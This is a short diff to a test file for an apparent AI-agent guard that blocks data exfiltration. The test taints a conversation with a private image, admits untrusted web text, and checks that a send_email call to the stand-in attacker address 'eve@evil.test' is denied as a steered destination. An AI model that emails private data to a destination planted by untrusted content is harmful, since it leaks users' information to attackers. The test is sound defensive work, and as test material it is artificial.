@@ -20,7 +20,8 @@ def test_t2_a_rewrite_with_an_image_arms_like_a_push() -> None:
     guard.conversation.rewrite([PICTURE])
     assert "private:image" in guard.conversation.taint
     guard.admit("text", labels=["untrusted:web"], source="page")
-    assert says(call(guard, "send_email", to="eve@evil.test").decision) == "deny trifecta"
+    decided = says(call(guard, "send_email", to="eve@evil.test").decision)
+    assert decided == "deny trifecta steered_destination"
 
 
 def test_t2_a_snapshot_made_by_hand_arms_or_is_refused() -> None:
